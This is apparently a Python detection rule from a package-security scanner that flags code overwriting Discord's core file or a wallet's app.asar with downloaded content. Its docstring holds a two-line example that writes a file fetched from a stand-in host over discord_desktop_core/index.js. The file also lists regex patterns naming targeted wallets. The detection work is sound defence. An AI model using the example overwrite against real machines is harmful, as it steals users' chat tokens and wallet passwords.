"""What it sees
    Program files of installed desktop applications that are overwritten with what came over the network: the start
    file of a chat client (`discord_desktop_core/index.js`), the `app.asar` of a wallet.

Why it matters
    The application is trusted, starts with every session and holds the session's tokens or the wallet's password. A
    patched one hands them over with every start, long after the package was removed.

Example
    path = os.path.join(core, "discord_desktop_core", "index.js")
    open(path, "w").write(requests.get("https://files.example.test/index.js").text)

What to do
    Do not run it. If it ran, install the named application anew, change its password and move funds.

False alarms
    Modified clients are installed so, at their user's wish: without a trigger it is reported with less confidence.

References
    ATT&CK T1554 (Compromise Host Software Binary), T1539, T1657.
"""

import re
from collections.abc import Iterator

from lazaretto.detect.pycode import Place, defanged, place
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.python import PythonModule

_PATCHES = N_("overwrites a program file of {name} with what it downloads")

_PROGRAMS = (
    ("a chat client", re.compile(r"discord_desktop_core|discord_(?:modules|voice)", re.IGNORECASE)),
    ("a wallet", re.compile(r"exodus|atomic|ledger|trezor|electrum|coinomi|guarda|wasabi|jaxx", re.IGNORECASE)),
)
_URL = re.compile(r"https?://[^\s'\"|;)]+")


def check(view: PythonModule) -> Iterator[Match]:
    """Yield one finding a file."""
    if not view.speaks("net"):
        return
    words = " ".join(text for text, _ in view.facts.strings)[:200_000]
    for name, pattern in _PROGRAMS:
        found = pattern.search(words)
        if found is None or (name == "a wallet" and "app.asar" not in words):
            continue
        for call in view.facts.calls:
            saves = "file:net" in call.tags() and call.name.startswith("shutil.")
            written = call.attr in {"write", "write_bytes", "write_text"} and {"net", "net~"} & call.tags()
            fetched = call.name.endswith("urlretrieve")
            if not (saves or written or fetched):
                continue
            unasked = view.unasked(call.scope)
            address = max(
                (a for text, _ in view.facts.strings for a in _URL.findall(text[:2000])), key=place, default=""
            )
            sure = unasked or name == "a wallet" or place(address) >= Place.SHARED
            yield Match(
                _PATCHES,
                call.line,
                call.column,
                params={"name": name, "address": defanged(address)},
                excerpt=view.quote(call.line),
                severity=Severity.LOW if view.is_test else Severity.HIGH,
                confidence=Confidence.HIGH if sure else Confidence.MEDIUM,
                phase=view.phase(call.scope),
            )
            return


RULE = Rule(
    id="py/patches-program",
    title=N_("Overwrites an installed program"),
    view=PythonModule,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    phase=Phase.RUN,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__ or "",
    techniques=("T1554",),
    needles=(b"discord_desktop_core", b"discord_modules", b"discord_voice", b"app.asar"),
)
